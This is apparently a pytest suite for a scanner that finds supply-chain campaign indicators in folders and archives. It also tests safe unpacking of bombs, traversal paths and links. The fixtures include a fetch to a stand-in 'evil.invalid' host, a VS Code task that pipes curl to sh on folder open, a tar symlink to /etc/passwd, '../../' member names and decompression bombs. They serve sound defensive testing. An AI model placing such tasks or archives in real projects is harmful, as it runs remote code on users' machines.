"""A scan of a folder finds what only its files show, with the campaign; archives are unfolded within bounds."""

from __future__ import annotations

import bz2
import gzip
import hashlib
import io
import json
import lzma
import os
import random
import struct
import tarfile
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from backports import zstd

from scanner.model.campaign import IndicatorType
from scanner.model.finding import Finding, FindingClass, State
from scanner.model.report import Report
from scanner.pipeline import files, rulebook
from scanner.pipeline.scan import Settings, scan
from tests.conftest import ROOT
from tests.factories import NOW, campaign, indicator, knowledge

SIGN = b"fetch('https://cdn.evil.invalid/x')"
BAD = b"not really malware: a fixture\n"


@pytest.fixture(scope="session")
def settings(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    return Settings(
        intel_directory=tmp_path_factory.mktemp("intel"),
        now=lambda: NOW,
        environ={},
        home=tmp_path_factory.mktemp("home"),
        code=False,  # what stands in files is asked here, not what they do
    )


def value(type_: IndicatorType, *, campaign: str) -> str:
    """An indicator of a campaign that travels with pratique, so that no test writes one down."""
    with rulebook.open_campaigns(rulebook.directory(), Path("/nonexistent")) as store:
        return next(one.value for one in store.indicators(campaign) if one.type is type_ and one.alone)


def only(report: Report) -> Finding:
    """The one compromise that is more than near."""
    (found,) = [
        one for one in report.findings if one.class_ is FindingClass.COMPROMISE and one.state is not State.NEAR_MISS
    ]
    return found


def put(folder: Path, name: str, data: bytes | str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    return path


class TestTheOnlySign:
    """Each of these trees has one sign, and is reported with its campaign."""

    def test_a_file_hash(self, tmp_path: Path, settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
        digest = indicator(IndicatorType.DIGEST, f"sha256:{hashlib.sha256(BAD).hexdigest()}", campaign="known-file")
        rules = tmp_path / "rules"
        rule = f"""id = "known-file"
name = "Known file"
kind = "unattributed"
summary = "s"
what_to_do = "d"
[[reference]]
id = "a"
url = "https://example.invalid/a"
[indicators]
digests = [{{ value = "{digest.value[7:]}", algorithm = "sha256", refs = ["a"] }}]
"""
        put(rules, "campaigns/known-file.toml", rule)
        put(rules, "actors.toml", "actor = []\n")
        monkeypatch.setattr(rulebook, "directory", lambda: rules)
        put(tmp_path / "tree", "vendor/lib/logo.png", BAD)
        found = only(scan([tmp_path / "tree"], settings))
        assert (found.state, found.evidence[0].location.path) == (State.CERTAIN, "vendor/lib/logo.png")
        assert found.campaign is not None
        assert found.campaign.id == "known-file"

    def test_b_domain_in_a_minified_file(self, tmp_path: Path, settings: Settings) -> None:
        domain = value(IndicatorType.DOMAIN, campaign="axios-unc1069-2026-03")
        put(tmp_path, "static/app.min.js", f"!function(){{{'var a=1;' * 200_000}fetch('https://x.{domain}/a')}}()")
        found = only(scan([tmp_path], settings))
        assert found.state is State.CERTAIN
        assert found.campaign is not None
        assert found.campaign.id == "axios-unc1069-2026-03"
        assert found.campaign.actor is not None
        assert found.evidence[0].value == domain

    def test_c_workflow_pinned_to_a_moved_tag(self, tmp_path: Path, settings: Settings) -> None:
        text = "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: tj-actions/changed-files@v44\n"
        put(tmp_path, ".github/workflows/ci.yml", text)
        found = only(scan([tmp_path], settings))
        assert found.campaign is not None
        assert (found.campaign.id, found.evidence[0].location.line) == ("tj-actions-reviewdog-2025", 6)

    def test_d_tasks_that_run_when_the_folder_is_opened(self, tmp_path: Path, settings: Settings) -> None:
        task = {"label": "env", "command": "curl -s https://a.invalid/x | sh", "runOptions": {"runOn": "folderOpen"}}
        put(tmp_path, ".vscode/tasks.json", json.dumps({"version": "2.0.0", "tasks": [task]}))
        found = only(scan([tmp_path], settings))
        assert found.state is State.POSSIBLE
        assert found.campaign is not None
        assert found.campaign.id == "contagious-interview-vscode-tasks-2025-2026"

    def test_e_git_commit_in_a_lockfile(self, tmp_path: Path, settings: Settings) -> None:
        with rulebook.open_campaigns(rulebook.directory(), Path("/nonexistent")) as store:
            commit, of = next(
                (one.value, found.id)
                for found in store.campaigns()
                for one in store.indicators(found.id)
                if one.type is IndicatorType.COMMIT
            )
        lock = {
            "name": "x", "lockfileVersion": 3,
            "packages": {"node_modules/a": {"version": "1.0.0", "resolved": f"git+ssh://git@host.invalid/a/b.git#{commit}"}},
        }  # fmt: skip
        put(tmp_path, "package-lock.json", json.dumps(lock))
        found = only(scan([tmp_path], settings))
        assert found.campaign is not None
        assert found.campaign.id == of

    def test_f_e_mail_in_package_metadata(self, tmp_path: Path, settings: Settings) -> None:
        email = value(IndicatorType.EMAIL, campaign="contagious-interview-npm-2025-11-ottercookie")
        put(tmp_path, "package.json", json.dumps({"name": "x", "version": "1.0.0", "author": f"X <{email}>"}))
        found = only(scan([tmp_path], settings))
        assert found.state is State.CERTAIN
        assert found.campaign is not None
        assert found.campaign.id == "contagious-interview-npm-2025-11-ottercookie"
        assert "metadata" in found.reason


def search(folder: Path, tree: Path) -> files.Searched:
    indicators = (
        indicator(IndicatorType.DOMAIN, "evil.invalid"),
        indicator(IndicatorType.DIGEST, f"sha256:{hashlib.sha256(BAD).hexdigest()}"),
    )
    return files.search([(tree, "")], knowledge(folder, (), (campaign(*indicators),)))


def paths(searched: files.Searched) -> list[str]:
    return [found.path for found in searched.signs]


def zipped(*members: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def tarred(*members: tuple[str, bytes], form: int = tarfile.PAX_FORMAT) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=form) as archive:
        folder = tarfile.TarInfo("package")
        folder.type = tarfile.DIRTYPE
        archive.addfile(folder)
        link = tarfile.TarInfo("package/link")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


LONG = "package/" + "very-long/" * 20 + "äöü.js"
MEMBERS = (("package/package.json", b"{}"), (LONG, SIGN), ("package/empty", b""), ("package/bad.bin", BAD))


@pytest.mark.parametrize(
    ("name", "pack"),
    [
        ("a.zip", lambda: zipped(*MEMBERS)),
        ("a.jar", lambda: b"#!/bin/sh\nlauncher\n" + zipped(*MEMBERS)),
        ("a.whl", lambda: zipped(*MEMBERS)),
        ("a.dat", lambda: zipped(*MEMBERS)),
        ("a.tar", lambda: tarred(*MEMBERS)),
        ("a.tar", lambda: tarred(*MEMBERS, form=tarfile.GNU_FORMAT)),
        ("a.tgz", lambda: gzip.compress(tarred(*MEMBERS))),
        ("a.crate", lambda: gzip.compress(tarred(*MEMBERS))),
        ("a.tar.bz2", lambda: bz2.compress(tarred(*MEMBERS))),
        ("a.tar.xz", lambda: lzma.compress(tarred(*MEMBERS))),
        ("a.tar.zst", lambda: zstd.compress(tarred(*MEMBERS))),
        # A frame that every unpacker passes over must not hide the one behind it.
        ("b.tar.zst", lambda: b"\x5a\x2a\x4d\x18\x04\0\0\0abcd" + zstd.compress(tarred(*MEMBERS))),
    ],
)  # fmt: skip
def test_members_are_searched(tmp_path: Path, name: str, pack: Callable[[], bytes]) -> None:
    put(tmp_path / "tree", name, pack())
    searched = search(tmp_path, tmp_path / "tree")
    assert paths(searched) == [f"{name}!/{LONG}", f"{name}!/package/bad.bin"]
    assert searched.problems == ()
    assert searched.files == 5


def test_a_gem_is_read_to_the_bottom(tmp_path: Path) -> None:
    gem = tarred(("metadata.gz", gzip.compress(b"name: x")), ("data.tar.gz", gzip.compress(tarred(("lib/x.rb", SIGN)))))
    put(tmp_path / "tree", "x-1.0.gem", gem)
    assert paths(search(tmp_path, tmp_path / "tree")) == ["x-1.0.gem!/data.tar.gz!/lib/x.rb"]


@pytest.mark.parametrize("streams", [1, 3])
def test_a_single_stream_and_several_behind_each_other(tmp_path: Path, streams: int) -> None:
    packed = b"".join(gzip.compress(b"x" * 50_000) for _ in range(streams - 1)) + gzip.compress(SIGN)
    put(tmp_path / "tree", "log.js.gz", packed)
    assert paths(search(tmp_path, tmp_path / "tree")) == ["log.js.gz!/log.js"]


@pytest.mark.parametrize("name", ["a.jar", "a.egg", "a.pex"])
def test_what_only_has_the_name_of_an_archive_is_searched_as_text(tmp_path: Path, name: str) -> None:
    put(tmp_path / "tree", name, SIGN)
    put(tmp_path / "tree", f"empty/{name}", b"")
    searched = search(tmp_path, tmp_path / "tree")
    assert (paths(searched), searched.problems) == ([name], ())


def test_a_launcher_before_an_archive_is_searched_as_well(tmp_path: Path) -> None:
    put(tmp_path / "tree", "a.pex", b"#!/bin/sh\n" + SIGN + b"\n" + zipped(("b.js", SIGN)))
    assert paths(search(tmp_path, tmp_path / "tree")) == ["a.pex", "a.pex!/b.js"]


def test_an_archive_is_known_by_its_own_digest_too(tmp_path: Path) -> None:
    packed = zipped(("a", b"1"))
    bad = indicator(IndicatorType.DIGEST, f"sha1:{hashlib.sha1(packed).hexdigest()}")
    tree = put(tmp_path / "tree", "a.zip", packed).parent
    assert paths(files.search([(tree, "")], knowledge(tmp_path, (), (campaign(bad),)))) == ["a.zip"]


def nested(depth: int) -> bytes:
    data = zipped(("x.js", SIGN))
    for _ in range(depth - 1):
        data = zipped(("x.zip", data))
    return data


def test_archives_in_archives_have_a_bottom(tmp_path: Path) -> None:
    put(tmp_path / "tree", "4.zip", nested(4))
    put(tmp_path / "tree", "5.zip", nested(5))
    searched = search(tmp_path, tmp_path / "tree")
    assert paths(searched) == ["4.zip!/x.zip!/x.zip!/x.zip!/x.js"]
    (problem,) = searched.problems
    assert problem.where.startswith("5.zip")
    assert "deep" in problem.what


def quine_like() -> bytes:
    """Two members that share their bytes."""
    data = bytearray(zipped(("a.js", SIGN * 50), ("b.js", SIGN * 50)))
    second = data.rfind(b"PK\x01\x02")
    struct.pack_into("<L", data, second + 42, 0)
    return bytes(data)


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("torn.zip", zipped(("a.js", SIGN))[:-30] + b"PK\x05\x06", "zip|torn|directory"),
        ("overlap.zip", quine_like(), "over each other|name"),
        ("torn.tgz", gzip.compress(tarred(("a.js", b"x" * 100_000)))[:-40], "breaks off"),
        ("wrong.tgz", gzip.compress(tarred(("a.js", SIGN)))[:40] + b"\0" * 50, "unpacked|breaks off"),
        ("bomb.gz", gzip.compress(bytes(400 << 20), 9), "unfold to more"),
        ("bomb.zip", zipped(("a", bytes(80 << 20))), "would unfold"),
        ("a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(100), "7-Zip"),
        ("wrong.zst", b"\x28\xb5\x2f\xfd" + bytes(100), "unpacked|breaks off"),
        ("bomb.zst", zstd.compress(bytes(400 << 20)), "unfold to more"),
        ("wide.zst", b"\x28\xb5\x2f\xfd\x00\xa0" + bytes(20), "unpacked"),  # wants a gigabyte to look back into
    ],
    ids=lambda value: "" if isinstance(value, bytes) else value,
)  # fmt: skip
def test_what_cannot_be_unfolded_stands_in_the_ledger(tmp_path: Path, name: str, data: bytes, words: str) -> None:
    put(tmp_path / "tree", name, data)
    put(tmp_path / "tree", "zz.js", SIGN)
    searched = search(tmp_path, tmp_path / "tree")
    assert any(problem.where.startswith(name) for problem in searched.problems)
    assert any(word in problem.what for problem in searched.problems for word in words.split("|"))
    assert "zz.js" in paths(searched)


def test_an_encrypted_member_is_told_and_the_others_are_read(tmp_path: Path) -> None:
    data = bytearray(zipped(("a.js", SIGN), ("b.js", SIGN)))
    data[6] |= 1
    data[data.find(b"PK\x01\x02") + 8] |= 1
    put(tmp_path / "tree", "a.zip", bytes(data))
    searched = search(tmp_path, tmp_path / "tree")
    assert paths(searched) == ["a.zip!/b.js"]
    assert [(problem.where, problem.what) for problem in searched.problems] == [("a.zip!/a.js", "it is encrypted")]


def test_a_large_file_is_not_held_in_memory(tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    put(tree, "a.bin", b"x" * (40 << 20) + SIGN)
    noise = random.Random(7).randbytes(30 << 20)
    put(tree, "b.tgz", gzip.compress(tarred(("c.bin", noise + SIGN)), 1))
    put(tree, "d.zip", zipped(("e.bin", noise + SIGN)))
    tracemalloc.start()
    try:
        searched = search(tmp_path, tree)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert sorted(paths(searched)) == ["a.bin", "b.tgz!/c.bin", "d.zip!/e.bin"]
    assert peak < 24 << 20


def test_nothing_is_written_and_names_lead_nowhere(tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    put(tree, "a.tar", tarred(("../../escaped.js", SIGN), ("/abs.js", SIGN)))
    before = {path: path.stat().st_mtime_ns for path in tmp_path.rglob("*") if "osv" not in path.parts}
    assert paths(search(tmp_path, tree)) == ["a.tar!/../../escaped.js", "a.tar!//abs.js"]
    assert {path: path.stat().st_mtime_ns for path in tmp_path.rglob("*") if "osv" not in path.parts} == before


def test_links_and_pipes_are_not_followed(tmp_path: Path) -> None:
    outside = put(tmp_path, "outside.js", SIGN)
    tree = put(tmp_path / "tree", "ok.txt", "x").parent
    (tree / "link.js").symlink_to(outside)
    (tree / "loop").symlink_to(tree)
    os.mkfifo(tree / "pipe")
    searched = search(tmp_path, tree)
    assert (paths(searched), searched.files) == ([], 1)


def test_a_file_that_cannot_be_read_stands_in_the_ledger(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from scanner.errors import InputError
    from scanner.targets import walk

    tree = put(tmp_path / "tree", "a.js", SIGN).parent
    put(tree, "b.js", SIGN)
    real = walk.small

    def refuses(root: Path, path: str, size: int) -> bytes | None:
        if path == "a.js":
            raise InputError("cannot be opened: Permission denied", where=path)
        return real(root, path, size)

    monkeypatch.setattr(walk, "small", refuses)
    searched = search(tmp_path, tree)
    assert paths(searched) == ["b.js"]
    assert [problem.where for problem in searched.problems] == ["a.js"]


def test_hooks_of_a_checkout_are_searched_and_its_objects_are_not(tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    put(tree, ".git/hooks/post-checkout", b"#!/bin/sh\n" + SIGN)
    put(tree, ".git/objects/aa/bb", SIGN)
    put(tree, ".git/config", SIGN)
    assert paths(search(tmp_path, tree)) == [".git/hooks/post-checkout"]


def test_the_ledger_counts_what_was_searched(tmp_path: Path, settings: Settings) -> None:
    put(tmp_path, "a.txt", "12345")
    put(tmp_path, "b.zip", zipped(("c.txt", b"1234567")))
    coverage = scan([tmp_path], settings).coverage
    size = (tmp_path / "b.zip").stat().st_size
    assert (coverage.files_searched, coverage.bytes_searched) == (3, 5 + size + 7)


def test_several_folders_keep_their_names(tmp_path: Path, settings: Settings) -> None:
    domain = value(IndicatorType.DOMAIN, campaign="axios-unc1069-2026-03")
    put(tmp_path, "one/a.js", domain)
    put(tmp_path, "two/a.js", domain)
    report = scan([tmp_path / "one", tmp_path / "two"], settings)
    assert {found.evidence[0].location.path for found in report.findings} == {
        f"{(tmp_path / name).as_posix()}/a.js" for name in ("one", "two")
    }


def test_what_a_component_shows_is_not_told_again(tmp_path: Path, settings: Settings) -> None:
    domain = value(IndicatorType.DOMAIN, campaign="axios-unc1069-2026-03")
    entry = {"version": "1.0.0", "resolved": f"https://{domain}/a.tgz"}
    put(tmp_path, "package-lock.json", json.dumps({"lockfileVersion": 3, "packages": {"node_modules/a": entry}}))
    found = only(scan([tmp_path], settings))
    assert found.component is not None


def test_what_no_component_holds_is_told_of_a_lockfile(tmp_path: Path, settings: Settings) -> None:
    domain = value(IndicatorType.DOMAIN, campaign="axios-unc1069-2026-03")
    lock = {"lockfileVersion": 3, "x-note": f"https://{domain}", "packages": {"node_modules/a": {"version": "1.0.0"}}}
    put(tmp_path, "package-lock.json", json.dumps(lock))
    found = only(scan([tmp_path], settings))
    assert (found.component, found.state) == (None, State.CERTAIN)


def test_our_own_campaign_files_accuse_nobody(settings: Settings) -> None:
    report = scan([ROOT / "rules"], settings)
    told = [found for found in report.findings if found.class_ is FindingClass.COMPROMISE]
    assert {found.state for found in told} == {State.NEAR_MISS}
    assert len(told) > 50
    assert report.exit_code != 1


def test_innocent_files_that_hold_weak_signs_are_spared(tmp_path: Path, settings: Settings) -> None:
    """What the measurement over real packages met: see docs/files.md."""
    put(tmp_path, "provenance.js", "const T = 'https://slsa-framework.github.io/github-actions-buildtypes/workflow/v1'")
    put(tmp_path, "AUTHORS", "and Jia Tan <jiat0218@gmail.com>.")
    put(tmp_path, "brotli.bin", b"\0https://fonts.gompoundComponents.polyfill.io/v2/nterface\0")
    put(tmp_path, "queue.js", "queue.addToQueue(2857687)")
    assert scan([tmp_path], settings).findings == ()


def test_one_file_named_alone_needs_no_automaton(tmp_path: Path, settings: Settings) -> None:
    lock = put(
        tmp_path, "package-lock.json", '{"lockfileVersion": 3, "packages": {"node_modules/a": {"version": "1.0.0"}}}'
    )
    coverage = scan([lock], settings).coverage
    assert (coverage.files_searched, coverage.components_read) == (0, 1)


def test_an_archive_that_is_named_is_searched_and_its_sources_are_read(tmp_path: Path, settings: Settings) -> None:
    domain = value(IndicatorType.DOMAIN, campaign="axios-unc1069-2026-03")
    lock = {
        "name": "x", "version": "1.0.0", "lockfileVersion": 3,
        "packages": {"": {"name": "x", "version": "1.0.0"}, "node_modules/a": {"version": "1.0.0"}},
    }  # fmt: skip
    plain = io.BytesIO()
    with tarfile.open(fileobj=plain, mode="w:gz") as archive:
        for name, text in (("package/package-lock.json", json.dumps(lock)), ("package/a.js", f"a('https://{domain}')")):
            member = tarfile.TarInfo(name)
            member.size = len(text)
            archive.addfile(member, io.BytesIO(text.encode()))
    named = put(tmp_path, "x.tgz", plain.getvalue())
    report = scan([named], settings)
    found = only(report)
    assert found.evidence[0].location.path == f"{named.as_posix()}!/package/a.js"
    assert [file.path for file in report.coverage.files] == [f"{named.as_posix()}!/package/package-lock.json"]
    assert report.coverage.components_read == 1


def test_a_packed_sbom_that_is_named_is_a_source_and_not_searched(tmp_path: Path, settings: Settings) -> None:
    sbom = {
        "bomFormat": "CycloneDX", "specVersion": "1.6", "version": 1,
        "components": [{"type": "library", "name": "a", "version": "1", "purl": "pkg:npm/a@1"}],
    }  # fmt: skip
    report = scan([put(tmp_path, "sbom.json.gz", gzip.compress(json.dumps(sbom).encode()))], settings)
    assert (report.coverage.files_searched, report.coverage.components_read) == (0, 1)
